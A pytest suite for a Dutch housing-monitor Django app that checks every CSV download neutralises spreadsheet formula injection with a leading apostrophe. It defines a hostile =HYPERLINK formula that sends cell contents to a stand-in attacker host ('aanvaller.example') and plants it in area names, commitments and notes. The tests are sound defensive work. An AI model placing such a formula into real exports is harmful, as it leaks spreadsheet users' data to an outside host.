"""Every CSV download neutralises text that a spreadsheet would run as a formula.

One test per download: text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is planted where the download shows text (an area's name, a commitment, a note), and
must come out with a leading apostrophe, while the numbers beside it stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from tests.factories import AreaGroupFactory
from woonmonitor.agreements import services
from woonmonitor.agreements.models import NumberCell
from woonmonitor.agreements.tests.conftest import make_agreement
from woonmonitor.areas.models import Area
from woonmonitor.downloads import DutchNumber, csv_cell, csv_text
from woonmonitor.monitor.models import Indicator, ValueOrigin, ValueStatus
from woonmonitor.monitor.services import NewValue, store_values
from woonmonitor.monitor.tests.maps_world import borger_odoorn_fixture  # noqa: F401

HOSTILE = '=HYPERLINK("http://aanvaller.example/?d="&A1,"klik")'
SAFE = "'" + HOSTILE


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def cells(response) -> list[str]:
    return [cell for row in rows_of(response) for cell in row]


def assert_neutralised(response, hostile: str = HOSTILE) -> list[str]:
    found = cells(response)
    assert "'" + hostile in found
    assert hostile not in found
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in found)
    return found


# ----------------------------------------------------------------------------- the one place


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.25"), DutchNumber("-1,5"), 0])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == value
    assert not csv_text(["n"], [[value]]).splitlines()[1].startswith("'")


def test_ordinary_text_and_empty_cells():
    assert csv_cell("Borger-Odoorn") == "Borger-Odoorn"
    assert csv_cell(None) == ""
    text = csv_text([HOSTILE], [])
    assert text.startswith("\ufeff")
    assert next(csv.reader(io.StringIO(text[1:]), delimiter=";")) == [SAFE]


# ----------------------------------------------------------------------------- monitor


@pytest.fixture
def hostile_monitor(borger_odoorn):  # noqa: F811
    """The real Borger-Odoorn world, with a wijk and a village whose names are formulas."""
    Area.objects.filter(code="WK168100").update(name=HOSTILE)
    AreaGroupFactory(slug="dorp", name=HOSTILE, member_codes=["WK168100", "WK168101"])
    return borger_odoorn


def test_map_csv(client, hostile_monitor):
    query = "?indicator=woningvoorraad&jaar=2024&niveau=wijk&gemeente=GM1681"
    rows = rows_of(client.get(reverse("monitor:map-data", args=["csv"]) + query))
    row = next(r for r in rows if r[0] == "WK168100")
    assert row[1] == SAFE
    value = rows[0].index("waarde")
    assert row[value] and row[value][0].isdigit()


def test_compare_csv(client, hostile_monitor):
    query = "?gebied=WK168100&gebied=GM1681"
    assert_neutralised(client.get(reverse("monitor:compare-data", args=["csv"]) + query))


def test_profile_csv(client, hostile_monitor):
    url = reverse("monitor:profile-data", args=["WK168100", "csv"])
    assert_neutralised(client.get(url, {"jaar": 2024}))


def test_trend_csv(client, hostile_monitor):
    url = reverse("monitor:trend-data", args=["WK168100", "woningvoorraad", "csv"])
    assert_neutralised(client.get(url))


def test_group_csv(client, hostile_monitor):
    url = reverse("monitor:group-data", args=["dorp", "csv"])
    assert_neutralised(client.get(url, {"jaar": 2024}))


def test_api_values_csv(client, hostile_monitor):
    params = {"level": "wijk", "parent": "GM1681", "period": 2024, "format": "csv"}
    assert_neutralised(client.get("/api/v1/indicators/woningvoorraad/values/", params))


def test_api_profile_csv(client, hostile_monitor):
    response = client.get("/api/v1/areas/WK168100/profile/", {"period": 2024, "format": "csv"})
    assert_neutralised(response)


def test_area_page_csv(client, hostile_monitor):
    assert_neutralised(client.get("/gebieden/GM1681/", {"formaat": "csv", "jaar": 2024}))


@pytest.fixture
def hostile_gemeente(hostile_monitor):
    """Borger-Odoorn itself renamed, in a region: the home page and region lists gemeenten."""
    from tests.factories import RegionMemberFactory

    Area.objects.filter(code="GM1681").update(name=HOSTILE)
    RegionMemberFactory(region__slug="zuidoost", municipality_code="GM1681")
    return hostile_monitor


def test_home_csv(client, hostile_gemeente):
    assert_neutralised(client.get("/", {"formaat": "csv"}))


def test_region_csv(client, hostile_gemeente):
    assert_neutralised(client.get("/regios/zuidoost/", {"formaat": "csv"}))


def test_input_template_csv(client_for, hostile_monitor):
    client = client_for("municipality_editor")
    assert_neutralised(client.get(reverse("monitor:input-template", args=["csv"])))


def test_entered_values_csv(client_for, cast, organisations, hostile_monitor):
    indicator = Indicator.objects.get(key="woningvoorraad")
    area = Area.objects.get(code="WK168101", vintage=2024)
    store_values(
        values=[
            NewValue(
                indicator.pk,
                area.pk,
                2025,
                -3.0,
                ValueStatus.PROVISIONAL,
                "\t=1+1",
                ValueOrigin.ENTERED,
            )
        ],
        organisation=organisations["municipality"],
        entered_by=cast["municipality_editor"],
    )
    client = client_for("municipality_editor")
    found = assert_neutralised(client.get(reverse("monitor:input-values", args=["csv"])), "\t=1+1")
    assert "-3" in found  # a negative number is a number, not a formula


# ----------------------------------------------------------------------------- agreements


@pytest.fixture
def hostile_agreement(organisations, cast):
    data = make_agreement(organisations)
    commitment = data["lefier_commitment"]
    commitment.content = HOSTILE
    commitment.save()
    NumberCell.objects.filter(table=data["table"]).update(row_label=HOSTILE)
    NumberCell.objects.filter(table=data["table"], column="2024").update(value=-2, raw="-2")
    data["lefier_commitment"].targets.update(description=HOSTILE)
    services.record_realised(
        agreement=data["agreement"],
        party=data["parties"]["LF"],
        user=cast["association_editor"],
        measure="new_build",
        year=2024,
        value=7,
        note=HOSTILE,
    )
    return data


def _agreement_csv(client, name: str, data, *args):
    return client.get(reverse(f"agreements:{name}", args=[data["agreement"].pk, *args]))


def test_commitments_csv(client, hostile_agreement):
    assert_neutralised(_agreement_csv(client, "commitments-csv", hostile_agreement))


def test_targets_csv(client, hostile_agreement):
    assert_neutralised(_agreement_csv(client, "targets-csv", hostile_agreement))


def test_table_csv(client, hostile_agreement):
    response = _agreement_csv(
        client, "table-csv", hostile_agreement, hostile_agreement["table"].key
    )
    assert_neutralised(response)
    header, *rows = rows_of(response)
    # the value is a number; the text as the document has it is text, and made safe
    assert [row[header.index("waarde")] for row in rows] == ["30", "-2"]
    assert [row[header.index("zoals_in_document")] for row in rows] == ["30", "'-2"]


def test_realised_csv(client, hostile_agreement):
    found = assert_neutralised(_agreement_csv(client, "realised-csv", hostile_agreement))
    assert "7" in found
